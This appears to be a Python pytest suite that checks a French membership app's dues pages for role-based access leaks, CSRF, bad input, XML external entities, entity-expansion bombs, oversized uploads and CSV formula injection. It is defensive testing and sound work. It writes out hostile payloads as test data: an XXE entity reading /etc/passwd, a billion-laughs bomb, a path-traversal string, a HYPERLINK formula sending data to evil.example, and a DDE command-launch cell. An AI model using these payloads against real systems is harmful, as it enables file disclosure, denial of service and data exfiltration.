"""Issue #11 (cotisations): attacks on the dues pages of the live demo server.

Who sees what (a member only its structures' calls, print pages, PDFs, bases and mandate; a
delegate only its delegation's; jurists, trainers and board members nothing), CSRF on every
state-changing form, hostile values (French 4xx, never a 500, nothing saved), XML external
entities and oversized statements, formula injection carried from a bank statement into the
accountant's exports, and differencing: the delegate's CSV list and API never hold another
delegation's rows. The demo holds the 2026 calls (Sources/Maillage/Demo/DemoDues.swift)."""
from __future__ import annotations

import re

import pytest

from seclib import (DELEGATE_CODE, UUID_RE, api_token, decode_csv, formula_cells, is_french, random_id,
                    read_page, strip_volatile)

YEAR = 2026
CALL_LINK = re.compile(r'href="/cotisations/appels/(' + UUID_RE + ')"')


def api_calls(demo, token: str) -> list[dict]:
    """Every 2026 call the token's owner may read through the API."""
    out, page = [], 1
    while True:
        r = demo.api(f"/api/v1/cotisations/{YEAR}/appels", token=token, per_page=200, page=page)
        assert r.status_code == 200, f"API calls: {r.status_code} {r.text[:200]}"
        body = r.json()
        out += body["items"]
        if len(out) >= body["total"] or not body["items"]:
            return out
        page += 1


def call_id(admin, number: str) -> str:
    """The id of call `number`, from the admin's list searched by number."""
    r = admin.get(f"/cotisations/{YEAR}/appels?q={number}")
    assert r.status_code == 200, f"calls list: {r.status_code}"
    ids = list(dict.fromkeys(CALL_LINK.findall(r.text)))
    assert len(ids) == 1, f"search {number}: {ids}"
    return ids[0]


def outstanding(call: dict) -> float:
    return float(call["outstanding_eur"])


@pytest.fixture(scope="module")
def ctx(demo, signed):
    class Ctx:
        pass
    c = Ctx()
    c.admin, c.delegate, c.member = (signed(r) for r in ("admin", "delegate", "member"))
    c.tokens = {"admin": demo.token, "delegate": api_token(c.delegate, "cotisations délégué"),
                "member": api_token(c.member, "cotisations adhérent")}
    c.by_siret = {s["siret"]: s for s in demo.structures()}
    c.all = api_calls(demo, c.tokens["admin"])
    assert len(c.all) > 400, f"the demo holds {len(c.all)} calls of {YEAR}"
    c.mine = set(demo.member_structure_ids(c.member))
    c.member_calls = [x for x in c.all if c.by_siret.get(x["siret"], {}).get("id") in c.mine]
    assert c.member_calls, "the demo member has no call"
    c.other_pdl = next(x for x in c.all if x["siret"] in c.by_siret and c.by_siret[x["siret"]]["delegation"] == DELEGATE_CODE
                       and c.by_siret[x["siret"]]["id"] not in c.mine)
    c.far = next(x for x in c.all if x["siret"] in c.by_siret and c.by_siret[x["siret"]]["delegation"] not in (DELEGATE_CODE, None))
    c.own_call_id = call_id(c.admin, c.member_calls[0]["number"])
    c.other_pdl_id = call_id(c.admin, c.other_pdl["number"])
    c.far_id = call_id(c.admin, c.far["number"])
    # An overdue call with enough left to pay, for the hostile payments (not the member's).
    c.open = next(x for x in c.all if x["status"] == "overdue" and outstanding(x) > 500 and x is not c.other_pdl
                  and x is not c.far and c.by_siret.get(x["siret"], {}).get("id") not in c.mine)
    c.open_id = call_id(c.admin, c.open["number"])
    return c


def page_state(client, path: str) -> str:
    r = client.get(path)
    assert r.status_code == 200, f"GET {path}: {r.status_code}"
    return re.sub(r"\s+", " ", strip_volatile(r.text))


def assert_refused_in_french(r, what: str, codes=(400, 413, 415, 422)):
    assert r.status_code < 500, f"{what}: {r.status_code} (a server error)"
    assert r.status_code in codes, f"{what}: {r.status_code}, expected one of {codes}"
    text = read_page(r.text).text if "html" in r.headers.get("Content-Type", "") else r.text
    assert is_french(text), f"{what}: the refusal is not in French: {text[:300]}"


# ------------------------------------------------------------------------------ who sees what


def test_member_sees_only_its_own_calls(ctx, demo):
    other = [ctx.other_pdl_id, ctx.far_id]
    for cid in other:
        for suffix in ("", "/impression", "/appel.pdf"):
            r = ctx.member.get(f"/cotisations/appels/{cid}{suffix}")
            assert r.status_code == 404, f"member GET another structure's call{suffix}: {r.status_code}"
    for s in (ctx.by_siret[ctx.other_pdl["siret"]], ctx.by_siret[ctx.far["siret"]]):
        for path in (f"/cotisations/{YEAR}/assiettes/{s['id']}", f"/cotisations/mandats/{s['id']}"):
            r = ctx.member.get(path)
            assert r.status_code == 404, f"member GET {path}: {r.status_code}"
        r = ctx.member.post(f"/cotisations/{YEAR}/assiettes/{s['id']}", {"confirm": "1"})
        assert r.status_code in (403, 404), f"member POST another structure's bases: {r.status_code}"
    # Its own call opens; the list and the API show its structures' calls and nothing else.
    assert ctx.member.get(f"/cotisations/appels/{ctx.own_call_id}").status_code == 200
    html = ctx.member.get(f"/cotisations/{YEAR}/appels?per_page=200").text
    listed = set(CALL_LINK.findall(html))
    assert ctx.own_call_id in listed and not listed & {ctx.other_pdl_id, ctx.far_id}
    assert len(listed) == len(ctx.member_calls), f"the member's list shows {len(listed)} calls, it has {len(ctx.member_calls)}"
    mine = {x["number"] for x in ctx.member_calls}
    seen = {x["number"] for x in api_calls(demo, ctx.tokens["member"])}
    assert seen == mine, f"the member's API: {sorted(seen - mine)[:5]} are not its calls"
    csv_rows = decode_csv(ctx.member.get(f"/cotisations/{YEAR}/appels?format=csv").content)
    numbers = {row[0] for row in csv_rows[1:] if row and re.fullmatch(r"\d{4}-\d{4}", row[0])}
    assert numbers == mine, f"the member's CSV list: {sorted(numbers - mine)[:5]}"


def test_delegate_stays_in_their_delegation(ctx, demo):
    for suffix in ("", "/impression", "/appel.pdf"):
        r = ctx.delegate.get(f"/cotisations/appels/{ctx.far_id}{suffix}")
        assert r.status_code == 404, f"delegate GET another delegation's call{suffix}: {r.status_code}"
    assert ctx.delegate.get(f"/cotisations/appels/{ctx.other_pdl_id}").status_code == 200
    far = ctx.by_siret[ctx.far["siret"]]
    for path in (f"/cotisations/{YEAR}/assiettes/{far['id']}", f"/cotisations/mandats/{far['id']}"):
        assert ctx.delegate.get(path).status_code == 404, f"delegate GET {path}"
    other_code = far["delegation"]
    r = ctx.delegate.get(f"/cotisations/{YEAR}/tableau-de-bord?delegation={other_code}")
    assert r.status_code in (403, 404), f"delegate's dashboard of {other_code}: {r.status_code}"
    r = ctx.delegate.get(f"/cotisations/{YEAR}/tableau-de-bord?delegation={DELEGATE_CODE}")
    assert r.status_code == 200
    # The delegate's list filtered on another delegation shows nothing of it.
    ids = set(re.findall(r'<option value="(' + UUID_RE + ')"', ctx.admin.get(f"/cotisations/{YEAR}/appels").text))
    assert ids, "no delegation filter on the admin's calls list"
    for did in ids:
        html = ctx.delegate.get(f"/cotisations/{YEAR}/appels?delegation={did}&per_page=200").text
        assert ctx.far_id not in CALL_LINK.findall(html)


def test_delegate_csv_list_and_api_hold_only_their_delegation(ctx, demo):
    """Differencing: every row the delegate gets is a PDL structure's, and all of PDL's are there."""
    pdl = {x["number"] for x in ctx.all if ctx.by_siret.get(x["siret"], {}).get("delegation") == DELEGATE_CODE}
    assert len(pdl) > 30
    api = api_calls(demo, ctx.tokens["delegate"])
    got = {x["number"] for x in api}
    assert got == pdl, f"delegate API: foreign {sorted(got - pdl)[:5]}, missing {sorted(pdl - got)[:5]}"
    assert all(ctx.by_siret[x["siret"]]["delegation"] == DELEGATE_CODE for x in api)
    rows = decode_csv(ctx.delegate.get(f"/cotisations/{YEAR}/appels?format=csv").content)
    header, body = rows[0], [r for r in rows[1:] if r and r[0].strip()]
    numbers = {r[0] for r in body}
    assert numbers == pdl, f"delegate CSV list: foreign {sorted(numbers - pdl)[:5]}, missing {sorted(pdl - numbers)[:5]}"
    sirets = {c for r in body for c in r if re.fullmatch(r"\d{14}", c)}
    assert sirets and all(ctx.by_siret[s]["delegation"] == DELEGATE_CODE for s in sirets if s in ctx.by_siret)
    # The accountant's exports are the national admin's only.
    for f in ("appels.csv", "paiements.csv", "ecritures.txt"):
        assert ctx.delegate.get(f"/cotisations/{YEAR}/export/{f}").status_code == 403


@pytest.mark.parametrize("role", ["jurist", "trainer", "board"])
def test_roles_without_dues_see_none(ctx, signed, demo, role):
    client = signed(role)
    for path in ("/cotisations", f"/cotisations/{YEAR}/appels", f"/cotisations/appels/{ctx.own_call_id}",
                 f"/cotisations/appels/{ctx.own_call_id}/impression", f"/cotisations/appels/{ctx.own_call_id}/appel.pdf",
                 f"/cotisations/{YEAR}/tableau-de-bord", f"/cotisations/{YEAR}/assiettes",
                 f"/cotisations/mandats/{ctx.by_siret[ctx.member_calls[0]['siret']]['id']}",
                 f"/cotisations/{YEAR}/export/appels.csv", f"/cotisations/{YEAR}/appels?format=csv"):
        r = client.get(path)
        assert r.status_code == 403, f"{role} GET {path}: {r.status_code}"
        assert ctx.member_calls[0]["number"] not in r.text
    r = demo.api(f"/api/v1/cotisations/{YEAR}/appels", token=api_token(client, f"cotisations {role}"))
    assert r.status_code == 403, f"{role} API: {r.status_code}"


# ----------------------------------------------------------------------------------- CSRF


def test_dues_posts_without_csrf_change_nothing(ctx):
    before = page_state(ctx.admin, f"/cotisations/appels/{ctx.open_id}")
    grids = page_state(ctx.admin, "/cotisations/baremes")
    for path, data in ((f"/cotisations/appels/{ctx.open_id}/paiements",
                        {"paid_on": "01/03/2026", "amount": "10,00", "method": "transfer", "reference": "sans jeton"}),
                       (f"/cotisations/appels/{ctx.open_id}/avoir", {"amount": "10,00", "reason": "sans jeton", "confirm": "1"}),
                       ("/cotisations/baremes", {"year": "2030"}),
                       (f"/cotisations/{YEAR}/generer", {"issued_on": "01/12/2026", "confirm": "1"}),
                       (f"/cotisations/{YEAR}/relances", {"confirm": "1"}),
                       ("/cotisations/prelevements", {"due_on": "01/12/2026", "confirm": "1"})):
        for token in (False, "jeton-inventé"):
            r = ctx.admin.post(path, data, csrf=token)
            assert r.status_code == 403 and "formulaire a expiré" in read_page(r.text).text, f"POST {path} csrf={token}: {r.status_code}"
    assert page_state(ctx.admin, f"/cotisations/appels/{ctx.open_id}") == before
    assert page_state(ctx.admin, "/cotisations/baremes") == grids


# ---------------------------------------------------------------------------- hostile values


def payment_form(admin, cid: str) -> dict[str, str]:
    page = read_page(admin.get(f"/cotisations/appels/{cid}").text)
    form = next((f for f in page.forms if f.action.endswith(f"/cotisations/appels/{cid}/paiements")), None)
    assert form is not None, "no payment form on the admin's call page"
    values = dict(form.values())
    assert {"paid_on", "amount", "method", "reference"} <= set(values), sorted(values)
    return values


@pytest.mark.parametrize("field,value", [
    ("amount", "1e309"), ("amount", "99999999999999999999"), ("amount", "-0"), ("amount", "12,345"),
    ("amount", "NaN"), ("amount", "1,2,3"), ("amount", "-50,00"), ("paid_on", "31/02/2026"), ("paid_on", "2026-13-01"),
    ("method", "bitcoin"), ("reference", "x" * 5000),
])
def test_hostile_payments_are_refused_in_french(ctx, field, value):
    path = f"/cotisations/appels/{ctx.open_id}"
    before = page_state(ctx.admin, path)
    values = payment_form(ctx.admin, ctx.open_id)
    values.update({"paid_on": "01/03/2026", "amount": "10,00", "method": "transfer", "reference": "essai hostile"})
    values[field] = value
    r = ctx.admin.post(f"{path}/paiements", values)
    assert_refused_in_french(r, f"payment {field}={value!r}", codes=(400, 413, 422))
    assert page_state(ctx.admin, path) == before, f"payment {field}={value!r} changed the call"


@pytest.mark.parametrize("value", ["0,6%%", "101", "-0,5", "1e3", "0,0001", "0x10"])
def test_hostile_grid_rates_are_refused(ctx, value):
    grids = page_state(ctx.admin, "/cotisations/baremes")
    r = ctx.admin.get("/cotisations/baremes/nouveau")
    assert r.status_code == 200
    form = next(f for f in read_page(r.text).forms if f.method == "post" and f.action.rstrip("/").endswith("/cotisations/baremes"))
    values = dict(form.values())
    values.update({"year": "2031", "reference_year": "2029", "fixed": "800,00", "smic": "11,88"})
    values["rates[AI]"] = value
    r = ctx.admin.post("/cotisations/baremes", values)
    assert_refused_in_french(r, f"grid rate {value!r}", codes=(422,))
    assert "rate-AI-error" in read_page(r.text).errors or "Taux" in read_page(r.text).text
    assert page_state(ctx.admin, "/cotisations/baremes") == grids, f"rate {value!r}: a grid was saved"


@pytest.mark.parametrize("path", [
    "/cotisations/99999/appels", "/cotisations/-1/appels", "/cotisations/abc/appels", "/cotisations/99999/tableau-de-bord",
    "/cotisations/99999/generer", "/cotisations/99999/assiettes", "/cotisations/99999/relances",
    "/cotisations/99999/export/appels.csv", f"/cotisations/{YEAR}/export/..%2F..%2Fetc%2Fpasswd",
    f"/cotisations/{YEAR}/export/inconnu.csv", "/cotisations/99999999999999999999/appels",
    "/cotisations/appels/pas-un-uuid", "/cotisations/releves/00000000-0000-0000-0000-000000000000",
    "/cotisations/prelevements/00000000-0000-0000-0000-000000000000/fichier",
])
def test_hostile_paths_are_plain_4xx(ctx, path):
    r = ctx.admin.get(path)
    assert r.status_code in (400, 404, 422), f"GET {path}: {r.status_code}"
    assert is_french(read_page(r.text).text), f"GET {path}: not a French page"
    assert "root:" not in r.text


def test_year_out_of_range_in_api_and_posts(ctx, demo):
    r = demo.api("/api/v1/cotisations/99999/appels")
    assert r.status_code in (400, 404), r.status_code
    r = ctx.admin.post("/cotisations/99999/generer", {"issued_on": "01/12/2026", "confirm": "1"})
    assert r.status_code in (400, 404, 422), r.status_code


def test_iban_with_a_wrong_key_is_refused(ctx, demo):
    s = ctx.by_siret[ctx.far["siret"]]
    path = f"/cotisations/mandats/{s['id']}"
    before = page_state(ctx.admin, path)
    form = next((f for f in read_page(ctx.admin.get(path).text).forms if f.method == "post" and f.action.rstrip("/") == path), None)
    assert form is not None, "no mandate form on the admin's mandate page"
    values = dict(form.values())
    values.update({"reference": "RUM-SECU-" + random_id()[:8], "signed_on": "01/06/2025", "debtor_name": s["name"],
                   "iban": "FR76 3000 6000 0112 3456 7890 188", "bic": "AGRIFRPPXXX"})
    r = ctx.admin.post(path, values)
    assert_refused_in_french(r, "IBAN with a wrong key", codes=(422,))
    assert "IBAN" in read_page(r.text).text
    assert page_state(ctx.admin, path) == before


# ---------------------------------------------------------------------------- bank statements


def upload_statement(admin, name: str, body: bytes, ctype: str = "application/xml"):
    admin.get("/cotisations/releves")
    return admin.post("/cotisations/releves", {}, files={"file": (name, body, ctype)})


def statements_state(admin) -> str:
    return page_state(admin, "/cotisations/releves")


XXE = b"""<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE Document [<!ENTITY secret SYSTEM "file:///etc/passwd"><!ENTITY host SYSTEM "file:///etc/hostname">]>
<Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.02"><BkToCstmrStmt><GrpHdr><MsgId>XXE</MsgId>
<CreDtTm>2026-03-02T10:00:00</CreDtTm></GrpHdr><Stmt><Id>1</Id><Ntry><Amt Ccy="EUR">10.00</Amt>
<CdtDbtInd>CRDT</CdtDbtInd><Sts>BOOK</Sts><BookgDt><Dt>2026-03-02</Dt></BookgDt><AcctSvcrRef>XXE-1</AcctSvcrRef>
<NtryDtls><TxDtls><RltdPties><Dbtr><Nm>&secret;</Nm></Dbtr></RltdPties><RmtInf><Ustrd>&host; NUMBER</Ustrd></RmtInf>
</TxDtls></NtryDtls></Ntry></Stmt></BkToCstmrStmt></Document>"""


def test_camt053_with_an_external_entity_is_refused(ctx):
    """Refused at the preview (the import flow keeps every upload as a batch, unapplied), the
    entity never read, nothing recorded on the call named in the remittance."""
    call = f"/cotisations/appels/{ctx.open_id}"
    before = page_state(ctx.admin, call)
    body = XXE.replace(b"NUMBER", ctx.open["number"].encode())
    r = upload_statement(ctx.admin, "xxe.xml", body)
    assert_refused_in_french(r, "camt.053 with a DOCTYPE", codes=(400, 415, 422))
    hostname = open("/etc/hostname").read().strip()
    for leak in ("root:x:", "/bin/bash", "nologin"):
        assert leak not in r.text, f"the statement's entity was read: {leak}"
    assert not hostname or f"{hostname} {ctx.open['number']}" not in r.text
    batch = re.search(r"/cotisations/releves/(" + UUID_RE + ")/appliquer", r.text)
    assert not batch, "a statement with a DOCTYPE can be applied"
    assert page_state(ctx.admin, call) == before


def test_billion_laughs_is_refused(ctx):
    bomb = b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">' + b"".join(
        b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10) for i in range(1, 10)
    ) + b']><Document><Nm>&lol9;</Nm></Document>'
    r = upload_statement(ctx.admin, "lol.xml", bomb)
    assert_refused_in_french(r, "entity expansion", codes=(400, 415, 422))


def test_a_6_mb_statement_is_a_french_413(ctx):
    before = statements_state(ctx.admin)
    line = "02/03/2026;VIR REMPLISSAGE;1,00\r\n"
    body = ("Date;Libellé;Montant\r\n" + line * (6 * 1024 * 1024 // len(line) + 1)).encode()
    r = upload_statement(ctx.admin, "gros.csv", body, "text/csv")
    assert r.status_code == 413, f"6 MB statement: {r.status_code}"
    assert is_french(read_page(r.text).text if "html" in r.headers.get("Content-Type", "") else r.text)
    assert statements_state(ctx.admin) == before


def test_statement_formula_injection_never_reaches_the_exports(ctx, demo):
    """A CSV statement whose payer name and text are formulas: previewed, applied, and the
    payments and calls exports hold no cell a spreadsheet would run."""
    number = ctx.open["number"]
    payload = '=HYPERLINK("http://evil.example/?x="&A1;"clic")'
    rows = [
        "Date;Libellé;Montant",
        f'02/03/2026;"{payload.replace(chr(34), chr(34) * 2)} {number}";5,00',
        f"03/03/2026;+cmd|' /C calc'!A0 VIR {number};4,00",
        f"04/03/2026;@SUM(1+1) {number};3,00",
    ]
    r = upload_statement(ctx.admin, "formules.csv", ("\r\n".join(rows) + "\r\n").encode("utf-8"), "text/csv")
    assert r.status_code == 200, f"statement upload: {r.status_code} {read_page(r.text).text[:300]}"
    preview_path = re.search(r"(/cotisations/releves/" + UUID_RE + ")/appliquer", r.text).group(1)
    preview = ctx.admin.get(preview_path)
    assert preview.status_code == 200 and number in preview.text
    form = next(f for f in read_page(preview.text).forms if f.method == "post" and f.action.endswith("/appliquer"))
    values = form.values() + [("confirm", str(n)) for n in range(1, 10)]
    before = next(x for x in api_calls(demo, ctx.tokens["admin"]) if x["number"] == number)
    r = ctx.admin.post(form.action, values)
    assert r.status_code in (200, 302, 303) and "3 pai" in read_page(r.text).text, f"apply: {r.status_code} {read_page(r.text).text[:300]}"
    after = next(x for x in api_calls(demo, ctx.tokens["admin"]) if x["number"] == number)
    assert round(outstanding(before) - outstanding(after), 2) == 12.0, (before["outstanding_eur"], after["outstanding_eur"])
    for f in ("paiements.csv", "appels.csv"):
        got = ctx.admin.get(f"/cotisations/{YEAR}/export/{f}")
        assert got.status_code == 200, f"export {f}: {got.status_code}"
        cells = formula_cells(decode_csv(got.content))
        assert not cells, f"{f} holds formulas: {cells[:3]}"
    # Applying twice records nothing more.
    before = page_state(ctx.admin, f"/cotisations/appels/{ctx.open_id}")
    ctx.admin.get(preview_path)
    ctx.admin.post(form.action, values)
    assert page_state(ctx.admin, f"/cotisations/appels/{ctx.open_id}") == before
